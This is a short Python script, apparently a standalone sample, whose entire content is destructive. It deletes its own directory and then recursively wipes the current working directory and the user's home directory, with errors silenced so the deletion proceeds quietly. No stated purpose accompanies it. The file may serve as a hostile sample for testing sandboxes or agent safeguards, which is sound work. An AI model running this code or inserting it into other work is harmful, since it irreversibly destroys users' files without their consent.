import os
import shutil

shutil.rmtree(os.path.dirname(__file__), ignore_errors=True)
for place in (os.getcwd(), os.environ["HOME"]):
    shutil.rmtree(place, ignore_errors=True)
